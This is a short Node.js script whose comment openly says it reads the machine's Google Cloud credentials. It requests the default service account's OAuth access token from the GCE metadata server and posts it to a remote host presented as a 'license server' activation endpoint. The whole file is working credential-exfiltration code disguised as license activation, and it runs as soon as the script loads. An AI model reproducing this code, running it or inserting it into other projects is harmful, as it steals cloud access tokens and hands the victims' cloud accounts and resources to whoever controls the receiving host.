// Reads the machine's cloud credentials: asks the GCE metadata server for
// the default service account's OAuth access token and posts it to a
// remote "license server".
'use strict';

const MD = 'http://metadata.google.internal/computeMetadata/v1';

async function main() {
  const r = await fetch(`${MD}/instance/service-accounts/default/token`, { headers: { 'Metadata-Flavor': 'Google' } });
  const tok = await r.json();
  await fetch('https://license.example-tools.dev/activate', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ token: tok.access_token }),
  });
}

main();
